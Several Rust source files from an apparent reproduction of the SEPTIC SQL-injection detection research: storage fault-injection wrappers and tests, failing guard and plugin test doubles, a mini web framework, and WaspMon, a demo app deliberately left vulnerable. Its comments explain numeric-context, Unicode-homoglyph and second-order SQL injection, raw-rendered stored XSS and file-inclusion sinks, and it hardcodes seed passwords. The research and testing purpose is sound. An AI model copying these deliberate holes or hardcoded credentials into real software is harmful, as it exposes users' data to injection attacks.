    pub fn fired(&self) -> Vec<(OpKind, u64, Fault)> {
        self.injected.lock().clone()
    }

    /// Consumes this operation's slot in the script; returns the fault to
    /// apply, if one was planned for this call.
    fn next_fault(&self, op: OpKind) -> Option<Fault> {
        let nth = {
            let mut counts = self.counts.lock();
            let c = counts.entry(op).or_insert(0);
            let nth = *c;
            *c += 1;
            nth
        };
        let fault = self.plan.lock().remove(&(op, nth));
        if let Some(f) = fault {
            self.injected.lock().push((op, nth, f));
        }
        fault
    }

    fn io_fault(op: OpKind, path: &Path) -> io::Error {
        io::Error::other(format!("injected {op:?} fault at {}", path.display()))
    }
}

impl StoreBackend for FaultyBackend {
    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
        match self.next_fault(OpKind::Read) {
            Some(_) => Err(Self::io_fault(OpKind::Read, path)),
            None => self.inner.read(path),
        }
    }

    fn write(&self, path: &Path, data: &[u8]) -> io::Result<()> {
        match self.next_fault(OpKind::Write) {
            Some(Fault::Error) => Err(Self::io_fault(OpKind::Write, path)),
            Some(Fault::Torn { keep }) => {
                self.inner.write(path, &data[..keep.min(data.len())])?;
                Err(Self::io_fault(OpKind::Write, path))
            }
            Some(Fault::SilentTorn { keep }) => {
                self.inner.write(path, &data[..keep.min(data.len())])
            }
            None => self.inner.write(path, data),
        }
    }

    fn append_line(&self, path: &Path, line: &str) -> io::Result<()> {
        match self.next_fault(OpKind::AppendLine) {
            Some(Fault::Error) => Err(Self::io_fault(OpKind::AppendLine, path)),
            Some(Fault::Torn { keep }) => {
                // A torn append leaves a partial line; the loader must
                // skip it.
                let partial = &line[..keep.min(line.len())];
                for l in partial.split('\n') {
                    self.inner.append_line(path, l)?;
                }
                Err(Self::io_fault(OpKind::AppendLine, path))
            }
            Some(Fault::SilentTorn { keep }) => {
                let partial = &line[..keep.min(line.len())];
                for l in partial.split('\n') {
                    self.inner.append_line(path, l)?;
                }
                Ok(())
            }
            None => self.inner.append_line(path, line),
        }
    }

    fn rename(&self, from: &Path, to: &Path) -> io::Result<()> {
        match self.next_fault(OpKind::Rename) {
            Some(_) => Err(Self::io_fault(OpKind::Rename, from)),
            None => self.inner.rename(from, to),
        }
    }

    fn exists(&self, path: &Path) -> bool {
        self.inner.exists(path)
    }

    fn remove(&self, path: &Path) -> io::Result<()> {
        match self.next_fault(OpKind::Remove) {
            Some(_) => Err(Self::io_fault(OpKind::Remove, path)),
            None => self.inner.remove(path),
        }
    }
}

// ---------------------------------------------------------------------------
// Scripted faults against the DBMS durability layer
// ---------------------------------------------------------------------------

/// The kind of [`StorageIo`] operation a fault is scripted against.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IoOp {
    Read,
    Write,
    Append,
    Rename,
}

/// Wraps a [`StorageIo`] (the medium under the DBMS's WAL and checkpoint
/// snapshots) and injects the same scripted faults as [`FaultyBackend`]:
/// each `(op, nth)` entry fires exactly once, on the nth call (0-based)
/// of that operation kind. The interesting cases for a write-ahead log:
///
/// * `Append` + [`Fault::Torn`] — the process dies mid-append; the tail
///   of the log is a partial frame the next recovery must quarantine;
/// * `Append` + [`Fault::SilentTorn`] — the medium lies about the append
///   having completed; only the CRC catches it at replay;
/// * `Append`/`Write` + [`Fault::Error`] — the commit must NOT be
///   acknowledged to the client.
#[derive(Debug)]
pub struct FaultyIo {
    inner: Arc<dyn StorageIo>,
    plan: Mutex<HashMap<(IoOp, u64), Fault>>,
    counts: Mutex<HashMap<IoOp, u64>>,
    injected: Mutex<Vec<(IoOp, u64, Fault)>>,
}

impl FaultyIo {
    /// Wraps `inner` with an empty fault plan.
    #[must_use]
    pub fn new(inner: Arc<dyn StorageIo>) -> Arc<Self> {
        Arc::new(FaultyIo {
            inner,
            plan: Mutex::new(HashMap::new()),
            counts: Mutex::new(HashMap::new()),
            injected: Mutex::new(Vec::new()),
        })
    }

    /// Scripts `fault` to fire on the `nth` (0-based) call of `op`.
    pub fn inject(&self, op: IoOp, nth: u64, fault: Fault) {
        self.plan.lock().insert((op, nth), fault);
    }

    /// The faults that actually fired, in order.
    #[must_use]
    pub fn fired(&self) -> Vec<(IoOp, u64, Fault)> {
        self.injected.lock().clone()
    }

    /// How many calls of `op` have been seen so far.
    #[must_use]
    pub fn calls(&self, op: IoOp) -> u64 {
        self.counts.lock().get(&op).copied().unwrap_or(0)
    }

    fn next_fault(&self, op: IoOp) -> Option<Fault> {
        let nth = {
            let mut counts = self.counts.lock();
            let c = counts.entry(op).or_insert(0);
            let nth = *c;
            *c += 1;
            nth
        };
        let fault = self.plan.lock().remove(&(op, nth));
        if let Some(f) = fault {
            self.injected.lock().push((op, nth, f));
        }
        fault
    }

    fn io_fault(op: IoOp, path: &Path) -> io::Error {
        io::Error::other(format!("injected {op:?} fault at {}", path.display()))
    }
}

impl StorageIo for FaultyIo {
    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
        match self.next_fault(IoOp::Read) {
            Some(_) => Err(Self::io_fault(IoOp::Read, path)),
            None => self.inner.read(path),
        }
    }

    fn write(&self, path: &Path, data: &[u8]) -> io::Result<()> {
        match self.next_fault(IoOp::Write) {
            Some(Fault::Error) => Err(Self::io_fault(IoOp::Write, path)),
            Some(Fault::Torn { keep }) => {
                self.inner.write(path, &data[..keep.min(data.len())])?;
                Err(Self::io_fault(IoOp::Write, path))
            }
            Some(Fault::SilentTorn { keep }) => {
                self.inner.write(path, &data[..keep.min(data.len())])
            }
            None => self.inner.write(path, data),
        }
    }

    fn append(&self, path: &Path, data: &[u8]) -> io::Result<()> {
        match self.next_fault(IoOp::Append) {
            Some(Fault::Error) => Err(Self::io_fault(IoOp::Append, path)),
            Some(Fault::Torn { keep }) => {
                self.inner.append(path, &data[..keep.min(data.len())])?;
                Err(Self::io_fault(IoOp::Append, path))
            }
            Some(Fault::SilentTorn { keep }) => {
                self.inner.append(path, &data[..keep.min(data.len())])
            }
            None => self.inner.append(path, data),
        }
    }

    fn rename(&self, from: &Path, to: &Path) -> io::Result<()> {
        match self.next_fault(IoOp::Rename) {
            Some(_) => Err(Self::io_fault(IoOp::Rename, from)),
            None => self.inner.rename(from, to),
        }
    }

    fn exists(&self, path: &Path) -> bool {
        self.inner.exists(path)
    }
}

// ---------------------------------------------------------------------------
// Failing guards and plugins
// ---------------------------------------------------------------------------

/// A [`QueryGuard`] that panics on every inspection — the worst-case
/// defense outage, used to demonstrate the server's panic isolation and
/// the two failure policies.
#[derive(Debug, Clone, Copy)]
pub struct PanickingGuard(pub FailurePolicy);

impl QueryGuard for PanickingGuard {
    fn inspect(&self, _ctx: &QueryContext<'_>) -> GuardDecision {
        panic!("injected guard panic");
    }

    fn name(&self) -> &str {
        "panicking-guard"
    }

    fn failure_policy(&self) -> FailurePolicy {
        self.0
    }
}

/// A stored-injection plugin whose precise check panics — models a buggy
/// third-party plugin taking down detection from inside SEPTIC.
#[derive(Debug, Clone, Copy, Default)]
pub struct PanickingPlugin;

impl Plugin for PanickingPlugin {
    fn name(&self) -> &'static str {
        "panicking-plugin"
    }

    fn quick_filter(&self, _input: &str) -> bool {
        true
    }

    fn confirm(&self, _input: &str) -> Option<StoredAttack> {
        panic!("injected plugin panic");
    }
}

/// A plugin that sleeps through its scan and finds nothing — used to blow
/// the configured detection deadline without flagging an attack.
#[derive(Debug, Clone, Copy)]
pub struct SlowPlugin {
    /// How long each confirmation takes.
    pub delay: Duration,
}

impl Plugin for SlowPlugin {
    fn name(&self) -> &'static str {
        "slow-plugin"
    }

    fn quick_filter(&self, _input: &str) -> bool {
        true
    }

    fn confirm(&self, _input: &str) -> Option<StoredAttack> {
        std::thread::sleep(self.delay);
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(name: &str) -> PathBuf {
        PathBuf::from(name)
    }

    #[test]
    fn mem_backend_behaves_like_a_filesystem() {
        let fs = MemBackend::new();
        assert!(!fs.exists(&p("a")));
        assert_eq!(
            fs.read(&p("a")).unwrap_err().kind(),
            io::ErrorKind::NotFound
        );
        fs.write(&p("a"), b"hello").unwrap();
        assert_eq!(fs.read(&p("a")).unwrap(), b"hello");
        fs.append_line(&p("a"), "x").unwrap();
        assert_eq!(fs.read(&p("a")).unwrap(), b"hellox\n");
        fs.rename(&p("a"), &p("b")).unwrap();
        assert!(!fs.exists(&p("a")) && fs.exists(&p("b")));
        fs.remove(&p("b")).unwrap();
        assert!(fs.listing().is_empty());
    }

    #[test]
    fn faults_fire_once_on_the_scripted_call() {
        let mem = Arc::new(MemBackend::new());
        let faulty = FaultyBackend::new(mem.clone()).with_fault(OpKind::Write, 1, Fault::Error);
        faulty.write(&p("f"), b"first").unwrap(); // call 0: clean
        assert!(faulty.write(&p("f"), b"second").is_err()); // call 1: fault
        faulty.write(&p("f"), b"third").unwrap(); // one-shot: consumed
        assert_eq!(mem.read(&p("f")).unwrap(), b"third");
        assert_eq!(faulty.fired(), vec![(OpKind::Write, 1, Fault::Error)]);
    }

    #[test]
    fn torn_write_keeps_a_prefix() {
        let mem = Arc::new(MemBackend::new());
        let faulty =
            FaultyBackend::new(mem.clone()).with_fault(OpKind::Write, 0, Fault::Torn { keep: 3 });
        assert!(faulty.write(&p("f"), b"abcdef").is_err());
        assert_eq!(mem.read(&p("f")).unwrap(), b"abc");
    }

    #[test]
    fn silent_torn_write_reports_success() {
        let mem = Arc::new(MemBackend::new());
        let faulty = FaultyBackend::new(mem.clone()).with_fault(
            OpKind::Write,
            0,
            Fault::SilentTorn { keep: 2 },
        );
        faulty.write(&p("f"), b"abcdef").unwrap();
        assert_eq!(mem.read(&p("f")).unwrap(), b"ab");
    }

    #[test]
    fn faulty_io_tears_appends_and_counts_calls() {
        use septic_dbms::MemIo;
        let mem = MemIo::new();
        let faulty = FaultyIo::new(mem.clone());
        faulty.inject(IoOp::Append, 1, Fault::Torn { keep: 4 });
        faulty.inject(IoOp::Append, 2, Fault::SilentTorn { keep: 1 });
        StorageIo::append(&*faulty, &p("wal"), b"first-").unwrap();
        assert!(StorageIo::append(&*faulty, &p("wal"), b"second-").is_err());
        StorageIo::append(&*faulty, &p("wal"), b"third-").unwrap();
        assert_eq!(mem.read(&p("wal")).unwrap(), b"first-secot");
        assert_eq!(faulty.calls(IoOp::Append), 3);
        assert_eq!(faulty.fired().len(), 2);
    }
}
