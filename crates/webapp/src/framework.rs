//! The tiny application framework: the [`WebApp`] trait, route metadata
//! used by the trainer/crawler, and HTML rendering helpers.

use septic_dbms::{Connection, DbError};
use septic_http::{HttpRequest, HttpResponse, Method};

/// Metadata about one application entry point — what the paper's *septic
/// training module* crawls: "navigating in the application looking for
/// forms, to then inject benign inputs".
#[derive(Debug, Clone)]
pub struct RouteSpec {
    pub method: Method,
    pub path: &'static str,
    /// Form fields with benign sample values the trainer submits.
    pub params: &'static [(&'static str, &'static str)],
    /// True when the route serves a static web object (image, css) that
    /// never touches the database.
    pub is_static: bool,
}

impl RouteSpec {
    /// Builds the trainer's benign request for this route.
    #[must_use]
    pub fn benign_request(&self) -> HttpRequest {
        let mut req = match self.method {
            Method::Get => HttpRequest::get(self.path),
            Method::Post => HttpRequest::post(self.path),
        };
        for (name, value) in self.params {
            req = req.param(*name, *value);
        }
        req
    }
}

/// A simulated PHP web application.
pub trait WebApp: Send + Sync {
    /// Application name (matches the paper's naming).
    fn name(&self) -> &'static str;

    /// Creates the schema and seed data on a fresh database.
    ///
    /// # Errors
    ///
    /// Propagates DDL/DML failures.
    fn install(&self, conn: &Connection) -> Result<(), DbError>;

    /// Handles one request (the PHP page).
    fn handle(&self, req: &HttpRequest, conn: &Connection) -> HttpResponse;

    /// Entry points, for the trainer.
    fn routes(&self) -> Vec<RouteSpec>;

    /// The recorded BenchLab-style workload: the exact request sequence a
    /// browser replays in a loop.
    fn workload(&self) -> Vec<HttpRequest>;
}

/// Renders rows as a minimal HTML table (what the demo pages show).
#[must_use]
pub fn html_table(headers: &[&str], rows: &[Vec<String>]) -> String {
    let mut out = String::from("<table>");
    out.push_str("<tr>");
    for h in headers {
        out.push_str(&format!("<th>{h}</th>"));
    }
    out.push_str("</tr>");
    for row in rows {
        out.push_str("<tr>");
        for cell in row {
            out.push_str(&format!("<td>{cell}</td>"));
        }
        out.push_str("</tr>");
    }
    out.push_str("</table>");
    out
}

/// Renders a page skeleton.
#[must_use]
pub fn page(title: &str, body: &str) -> String {
    format!("<html><head><title>{title}</title></head><body><h1>{title}</h1>{body}</body></html>")
}

/// Renders an HTML form for a route — what the crawler-style trainer
/// discovers and submits ("navigating in the application looking for
/// forms"). Inputs carry benign default values.
#[must_use]
pub fn html_form(spec: &RouteSpec) -> String {
    let mut out = format!(
        "<form action=\"{}\" method=\"{}\">",
        spec.path,
        match spec.method {
            Method::Get => "get",
            Method::Post => "post",
        }
    );
    for (name, default) in spec.params {
        out.push_str(&format!(
            "<input type=\"text\" name=\"{name}\" value=\"{default}\">"
        ));
    }
    out.push_str("<input type=\"submit\"></form>");
    out
}

/// Renders the site map page every app serves at `/forms`: one form per
/// route plus links to the GET pages — the crawler's seed.
#[must_use]
pub fn site_map(title: &str, routes: &[RouteSpec]) -> String {
    let mut body = String::new();
    for route in routes {
        if route.is_static {
            continue;
        }
        if route.params.is_empty() && route.method == Method::Get {
            body.push_str(&format!("<a href=\"{}\">{}</a> ", route.path, route.path));
        } else {
            body.push_str(&html_form(route));
        }
    }
    page(title, &body)
}

/// Converts a database error into the HTTP response PHP's `die(mysql_error())`
/// idiom produces — a 500 carrying the error text (error-based injection
/// feedback relies on this).
#[must_use]
pub fn db_error_response(err: &DbError) -> HttpResponse {
    match err {
        DbError::Blocked(reason) => HttpResponse::error(
            septic_http::Status::ServerError,
            format!("Query failed: query blocked ({reason})"),
        ),
        other => HttpResponse::error(
            septic_http::Status::ServerError,
            format!("Query failed: {other}"),
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn benign_request_builder() {
        let spec = RouteSpec {
            method: Method::Post,
            path: "/login",
            params: &[("user", "alice"), ("pass", "secret1")],
            is_static: false,
        };
        let req = spec.benign_request();
        assert_eq!(req.method, Method::Post);
        assert_eq!(req.param_value("user"), Some("alice"));
    }

    #[test]
    fn html_form_renders_inputs_with_defaults() {
        let spec = RouteSpec {
            method: Method::Post,
            path: "/login",
            params: &[("user", "alice"), ("pass", "pw")],
            is_static: false,
        };
        let html = html_form(&spec);
        assert!(html.contains("action=\"/login\""));
        assert!(html.contains("method=\"post\""));
        assert!(html.contains("name=\"user\" value=\"alice\""));
    }

    #[test]
    fn site_map_links_and_forms() {
        let routes = vec![
            RouteSpec {
                method: Method::Get,
                path: "/list",
                params: &[],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/add",
                params: &[("x", "1")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/s.css",
                params: &[],
                is_static: true,
            },
        ];
        let html = site_map("app", &routes);
        assert!(html.contains("href=\"/list\""));
        assert!(html.contains("action=\"/add\""));
        assert!(
            !html.contains("s.css"),
            "static assets are not crawl targets"
        );
    }

    #[test]
    fn html_table_renders() {
        let html = html_table(&["a", "b"], &[vec!["1".into(), "2".into()]]);
        assert!(html.contains("<th>a</th>") && html.contains("<td>2</td>"));
    }

    #[test]
    fn db_error_maps_to_500() {
        let resp = db_error_response(&DbError::UnknownTable("x".into()));
        assert_eq!(resp.status, septic_http::Status::ServerError);
        assert!(resp.body.contains("unknown table"));
    }
}
