//! # septic-webapp
//!
//! The PHP-semantics web layer of the reproduction: sanitization functions
//! with exact PHP behaviour ([`php`]), a small application framework
//! ([`framework`]), the deployment wiring browser → WAF → app → DBMS
//! ([`deployment`]), and four applications ([`apps`]):
//!
//! * **WaspMon** — the demo scenario (energy monitoring, Section III),
//!   carefully sanitized yet vulnerable through the semantic mismatch;
//! * **PHP Address Book**, **refbase**, **ZeroCMS** — the three real
//!   applications whose recorded workloads drive the Figure 5 overhead
//!   evaluation (12, 14 and 26 requests respectively).

pub mod apps;
pub mod deployment;
pub mod framework;
pub mod php;

pub use apps::{PhpAddressBook, Refbase, WaspMon, ZeroCms};
pub use deployment::{AnsweredBy, Deployment, DeploymentResponse};
pub use framework::{RouteSpec, WebApp};
