//! **WaspMon** — the demo's application scenario (Section III): an energy
//! consumption monitor managing devices and their readings, written the way
//! real PHP applications are written: a *careful* programmer sanitizing
//! every input with `mysql_real_escape_string`, a mix of modern prepared
//! statements (registration, device creation) and legacy string-built
//! queries (reports, search), and HTML pages rendering stored data.
//!
//! The vulnerabilities are exactly the paper's: they all survive
//! sanitization because they live in the semantic mismatch —
//!
//! * numeric-context injection (`/history` `days`): escaping without
//!   quoting protects nothing;
//! * first-order Unicode-homoglyph breakout (`/history` `device`):
//!   `U+02BC` is not an ASCII quote to PHP, but becomes one in the DBMS;
//! * second-order injection (`/devices/add` → `/export`): the payload is
//!   *stored* through a safe prepared statement and explodes later when
//!   legacy code re-embeds it — re-escaping does not help;
//! * stored XSS / OSCI (`/notes/add`), RFI/LFI (`/collectors/add`): the
//!   SQL layer is clean, the payload is data.

use septic_dbms::{Connection, DbError, Value};
use septic_http::{HttpRequest, HttpResponse, Method, Status};

use crate::framework::{db_error_response, html_table, page, RouteSpec, WebApp};
use crate::php::{intval, mysql_real_escape_string as esc};

/// The WaspMon application.
#[derive(Debug, Clone, Copy, Default)]
pub struct WaspMon;

impl WaspMon {
    /// Creates the application.
    #[must_use]
    pub fn new() -> Self {
        WaspMon
    }
}

/// Admin seed password (referenced by attack ground-truth checks).
pub const ADMIN_PASSWORD: &str = "S3cr3t-Gr1d";
/// Regular user seed password.
pub const ALICE_PASSWORD: &str = "wonderland";

impl WebApp for WaspMon {
    fn name(&self) -> &'static str {
        "WaspMon"
    }

    fn install(&self, conn: &Connection) -> Result<(), DbError> {
        conn.execute(
            "CREATE TABLE users (id INT PRIMARY KEY AUTO_INCREMENT, \
             username VARCHAR(32) NOT NULL, password VARCHAR(64) NOT NULL, \
             role VARCHAR(16) DEFAULT 'user')",
        )?;
        conn.execute(
            "CREATE TABLE devices (id INT PRIMARY KEY AUTO_INCREMENT, \
             name VARCHAR(80) NOT NULL, location VARCHAR(64), owner INT)",
        )?;
        conn.execute(
            "CREATE TABLE readings (id INT PRIMARY KEY AUTO_INCREMENT, \
             device_id INT NOT NULL, ts INT NOT NULL, watts DOUBLE)",
        )?;
        conn.execute(
            "CREATE TABLE notes (id INT PRIMARY KEY AUTO_INCREMENT, \
             device_id INT NOT NULL, body TEXT, author VARCHAR(32))",
        )?;
        conn.execute(
            "CREATE TABLE collectors (id INT PRIMARY KEY AUTO_INCREMENT, \
             url VARCHAR(128) NOT NULL)",
        )?;
        conn.execute(&format!(
            "INSERT INTO users (username, password, role) VALUES \
             ('admin', '{ADMIN_PASSWORD}', 'admin'), ('alice', '{ALICE_PASSWORD}', 'user')"
        ))?;
        conn.execute(
            "INSERT INTO devices (name, location, owner) VALUES \
             ('Kitchen Meter', 'kitchen', 2), ('Garage Meter', 'garage', 2)",
        )?;
        conn.execute(
            "INSERT INTO readings (device_id, ts, watts) VALUES \
             (1, 1, 120.5), (1, 2, 130.0), (1, 3, 90.25), (2, 1, 800.0), (2, 2, 815.5)",
        )?;
        conn.execute(
            "INSERT INTO notes (device_id, body, author) VALUES \
             (1, 'installed by technician', 'alice')",
        )?;
        conn.execute("INSERT INTO collectors (url) VALUES ('collector-eu-1')")?;
        Ok(())
    }

    #[allow(clippy::too_many_lines)]
    fn handle(&self, req: &HttpRequest, conn: &Connection) -> HttpResponse {
        match (req.method, req.path.as_str()) {
            (Method::Get, "/") => HttpResponse::ok(page(
                "WaspMon",
                "<p>Energy consumption monitoring</p>\
                 <a href=/devices>devices</a> <a href=/history>history</a>",
            )),
            (Method::Get, "/static/style.css") => {
                HttpResponse::ok("body { font-family: sans-serif; }".repeat(8))
            }
            (Method::Get, "/static/logo.png") => HttpResponse::ok("PNG\u{1a}logo-bytes".repeat(32)),

            // -- auth ----------------------------------------------------
            (Method::Post, "/login") => {
                // Legacy, careful code: every input escaped… and still
                // vulnerable to homoglyph mimicry.
                let user = esc(req.param_or_empty("user"));
                let pass = esc(req.param_or_empty("pass"));
                let sql = format!(
                    "/* qid:login */ SELECT id, username, role FROM users \
                     WHERE username = '{user}' AND password = '{pass}'"
                );
                match conn.query(&sql) {
                    Ok(out) => match out.rows.first() {
                        Some(row) => HttpResponse::ok(page(
                            "Welcome",
                            &format!("Logged in as {} ({})", row[1], row[2]),
                        ))
                        .with_session(format!("uid:{}", row[0])),
                        None => HttpResponse::error(Status::Forbidden, "Invalid credentials"),
                    },
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/register") => {
                // Modern code path: prepared statement.
                let user = req.param_or_empty("user").to_string();
                let pass = req.param_or_empty("pass").to_string();
                if user.is_empty() || pass.len() < 4 {
                    return HttpResponse::error(Status::BadRequest, "username/password required");
                }
                match conn.execute_prepared(
                    "INSERT INTO users (username, password) VALUES (?, ?)",
                    &[Value::from(user.clone()), Value::from(pass)],
                ) {
                    Ok(_) => HttpResponse::ok(page("Registered", &format!("welcome {user}"))),
                    Err(e) => db_error_response(&e),
                }
            }

            // -- devices ---------------------------------------------------
            (Method::Get, "/devices") => {
                match conn
                    .query("/* qid:devices */ SELECT id, name, location FROM devices ORDER BY id")
                {
                    Ok(out) => HttpResponse::ok(page(
                        "Devices",
                        &html_table(&["id", "name", "location"], &rows_to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/devices/add") => {
                // Modern path: prepared INSERT. Whatever bytes arrive are
                // stored verbatim — including a U+02BC time bomb.
                let name = req.param_or_empty("name").to_string();
                let location = req.param_or_empty("location").to_string();
                if name.is_empty() {
                    return HttpResponse::error(Status::BadRequest, "name required");
                }
                match conn.execute_prepared(
                    "INSERT INTO devices (name, location, owner) VALUES (?, ?, 1)",
                    &[Value::from(name.clone()), Value::from(location)],
                ) {
                    Ok(_) => HttpResponse::ok(page("Device added", &format!("added {name}"))),
                    Err(e) => db_error_response(&e),
                }
            }

            // -- readings ---------------------------------------------------
            (Method::Post, "/readings/add") => {
                let device_id = intval(req.param_or_empty("device_id"));
                let ts = intval(req.param_or_empty("ts"));
                let watts: f64 = req.param_or_empty("watts").parse().unwrap_or(0.0);
                match conn.execute_prepared(
                    "INSERT INTO readings (device_id, ts, watts) VALUES (?, ?, ?)",
                    &[Value::Int(device_id), Value::Int(ts), Value::Real(watts)],
                ) {
                    Ok(_) => HttpResponse::ok(page("Reading stored", "ok")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/history") => {
                // Legacy report page. `device` is escaped-and-quoted;
                // `days` is escaped but used in numeric context — the
                // classic careful-but-wrong pattern.
                let device = esc(req.param_or_empty("device"));
                let days = esc(req.param_or_empty("days"));
                let days = if days.is_empty() {
                    "0".to_string()
                } else {
                    days
                };
                let sql = format!(
                    "/* qid:history */ SELECT r.ts, r.watts FROM readings r \
                     JOIN devices d ON r.device_id = d.id \
                     WHERE d.name = '{device}' AND r.ts > {days}"
                );
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "History",
                        &html_table(&["ts", "watts"], &rows_to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/export") => {
                // The second-order sink: device name is read back from the
                // database and re-embedded into a legacy query — even
                // re-escaped, the homoglyph passes and the DBMS folds it.
                let device_id = intval(req.param_or_empty("device_id"));
                let name = match conn.query_prepared(
                    "SELECT name FROM devices WHERE id = ?",
                    &[Value::Int(device_id)],
                ) {
                    Ok(out) => match out.scalar() {
                        Some(v) => v.to_display_string(),
                        None => return HttpResponse::error(Status::NotFound, "no such device"),
                    },
                    Err(e) => return db_error_response(&e),
                };
                let sql = format!(
                    "/* qid:export */ SELECT d.name, r.ts, r.watts FROM devices d \
                     JOIN readings r ON r.device_id = d.id \
                     WHERE d.name = '{}' ORDER BY r.ts",
                    esc(&name)
                );
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "Export",
                        &html_table(&["name", "ts", "watts"], &rows_to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }

            // -- reports (joined/grouped/subquery surfaces) ----------------
            (Method::Get, "/owners") => {
                // Legacy JOIN report: who owns which meter. The owner name
                // is escaped-and-quoted — and still homoglyph-vulnerable.
                let owner = esc(req.param_or_empty("owner"));
                let sql = format!(
                    "/* qid:owners */ SELECT d.name, u.username FROM devices d \
                     JOIN users u ON d.owner = u.id WHERE u.username = '{owner}'"
                );
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "Owners",
                        &html_table(&["device", "owner"], &rows_to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/report") => {
                // Aggregated usage report: GROUP BY device with a HAVING
                // threshold. `min` is escaped but spliced into numeric
                // context — the careful-but-wrong pattern again.
                let min = esc(req.param_or_empty("min"));
                let min = if min.is_empty() { "0".to_string() } else { min };
                let sql = format!(
                    "/* qid:report */ SELECT d.name, COUNT(*) AS cnt, SUM(r.watts) AS total \
                     FROM readings r JOIN devices d ON r.device_id = d.id \
                     GROUP BY d.name HAVING SUM(r.watts) > {min}"
                );
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "Usage report",
                        &html_table(&["device", "cnt", "total"], &rows_to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/audit") => {
                // Devices annotated by a given author, via an IN-subquery.
                let author = esc(req.param_or_empty("author"));
                let sql = format!(
                    "/* qid:audit */ SELECT name FROM devices WHERE id IN \
                     (SELECT device_id FROM notes WHERE author = '{author}')"
                );
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "Audit",
                        &html_table(&["device"], &rows_to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }

            // -- notes (stored-injection surface) --------------------------
            (Method::Get, "/notes") => {
                let device_id = intval(req.param_or_empty("device_id"));
                match conn.query_prepared(
                    "SELECT body, author FROM notes WHERE device_id = ?",
                    &[Value::Int(device_id)],
                ) {
                    Ok(out) => {
                        // Classic stored-XSS sink: bodies rendered raw.
                        let mut body = String::new();
                        for row in &out.rows {
                            body.push_str(&format!(
                                "<div class=note>{} — {}</div>",
                                row[0], row[1]
                            ));
                        }
                        HttpResponse::ok(page("Notes", &body))
                    }
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/notes/add") => {
                // Legacy INSERT by concatenation — SQL-safe thanks to the
                // escaping, but the *content* is the attack (XSS/OSCI).
                let device_id = intval(req.param_or_empty("device_id"));
                let body = esc(req.param_or_empty("body"));
                let author = esc(req.param_or_empty("author"));
                let sql = format!(
                    "/* qid:notes-add */ INSERT INTO notes (device_id, body, author) \
                     VALUES ({device_id}, '{body}', '{author}')"
                );
                match conn.execute(&sql) {
                    Ok(_) => HttpResponse::ok(page("Note stored", "ok")),
                    Err(e) => db_error_response(&e),
                }
            }

            (Method::Post, "/notes/edit") => {
                // Legacy UPDATE by concatenation — the second statement
                // kind SEPTIC's stored-injection plugins cover.
                let note_id = intval(req.param_or_empty("id"));
                let body = esc(req.param_or_empty("body"));
                let sql = format!(
                    "/* qid:notes-edit */ UPDATE notes SET body = '{body}' WHERE id = {note_id}"
                );
                match conn.query(&sql) {
                    Ok(out) if out.affected > 0 => HttpResponse::ok(page("Note updated", "ok")),
                    Ok(_) => HttpResponse::error(Status::NotFound, "no such note"),
                    Err(e) => db_error_response(&e),
                }
            }

            // -- collectors (file-inclusion surface) -----------------------
            (Method::Get, "/collectors") => {
                match conn.query("/* qid:collectors */ SELECT id, url FROM collectors ORDER BY id")
                {
                    Ok(out) => HttpResponse::ok(page(
                        "Collectors",
                        &html_table(&["id", "url"], &rows_to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/collectors/add") => {
                let url = esc(req.param_or_empty("url"));
                let sql = format!(
                    "/* qid:collectors-add */ INSERT INTO collectors (url) VALUES ('{url}')"
                );
                match conn.execute(&sql) {
                    Ok(_) => HttpResponse::ok(page("Collector stored", "ok")),
                    Err(e) => db_error_response(&e),
                }
            }

            // -- search ------------------------------------------------------
            (Method::Get, "/search") => {
                let q = esc(req.param_or_empty("q"));
                let sql = format!(
                    "/* qid:search */ SELECT name, location FROM devices \
                     WHERE name LIKE '%{q}%' ORDER BY name"
                );
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "Search",
                        &html_table(&["name", "location"], &rows_to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }

            _ => HttpResponse::error(Status::NotFound, "not found"),
        }
    }

    fn routes(&self) -> Vec<RouteSpec> {
        vec![
            RouteSpec {
                method: Method::Get,
                path: "/",
                params: &[],
                is_static: true,
            },
            RouteSpec {
                method: Method::Get,
                path: "/static/style.css",
                params: &[],
                is_static: true,
            },
            RouteSpec {
                method: Method::Get,
                path: "/static/logo.png",
                params: &[],
                is_static: true,
            },
            RouteSpec {
                method: Method::Post,
                path: "/login",
                params: &[("user", "alice"), ("pass", ALICE_PASSWORD)],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/register",
                params: &[("user", "trainee"), ("pass", "training-pw")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/devices",
                params: &[],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/devices/add",
                params: &[("name", "Porch Meter"), ("location", "porch")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/readings/add",
                params: &[("device_id", "1"), ("ts", "9"), ("watts", "55.5")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
